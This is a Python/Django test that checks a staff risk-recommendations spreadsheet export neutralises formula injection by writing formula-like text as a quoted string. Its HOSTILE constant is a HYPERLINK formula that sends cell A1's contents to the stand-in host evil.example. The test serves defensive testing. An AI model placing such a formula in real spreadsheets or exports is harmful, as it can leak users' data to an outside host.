"""The recommendations workbook: text that looks like a formula is written as text
(issue 10, spreadsheet formula injection); numbers and dates keep their types."""

from __future__ import annotations

import io
from typing import Any

from django.test import Client
from openpyxl import load_workbook

HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"


def test_recommendation_text_is_not_a_formula(client: Client, world: Any) -> None:
    world.a1.text = HOSTILE
    world.a1.save()
    client.force_login(world.analyst)
    book = load_workbook(io.BytesIO(client.get("/en/staff/risks/export.xlsx").content))
    sheet = book.active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("recommendation_code")].value == "A1")
    text = row[header.index("recommendation_text")]
    assert text.value == "'" + HOSTILE and text.data_type == "s"
    assert row[header.index("finding_severity")].data_type != "f"
